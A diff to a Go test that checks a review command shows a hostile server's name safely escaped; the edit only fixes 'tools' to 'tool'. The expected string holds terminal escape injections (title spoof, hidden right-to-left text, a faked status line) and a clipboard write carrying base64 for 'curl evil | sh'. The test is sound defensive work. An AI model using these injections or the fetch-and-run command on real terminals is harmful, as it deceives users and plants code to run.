@@ -89,7 +89,7 @@ func TestHostileServerTextReachesNoTerminal(t *testing.T) {
 	}
 	// The review shows the server as it named itself, made visible.
 	_, out, _ := f.runCode(t, nil, "review", "lookup")
-	if want := `server hostile: evil\u001b]0;all clear\u0007\u202edaer\u202c@1.0\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\r\u001b[2Kno capabilities need review, 1 tools`; !strings.Contains(out, want) {
+	if want := `server hostile: evil\u001b]0;all clear\u0007\u202edaer\u202c@1.0\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\r\u001b[2Kno capabilities need review, 1 tool`; !strings.Contains(out, want) {
 		t.Errorf("review does not show the server as %s:\n%s", want, out)
 	}
 
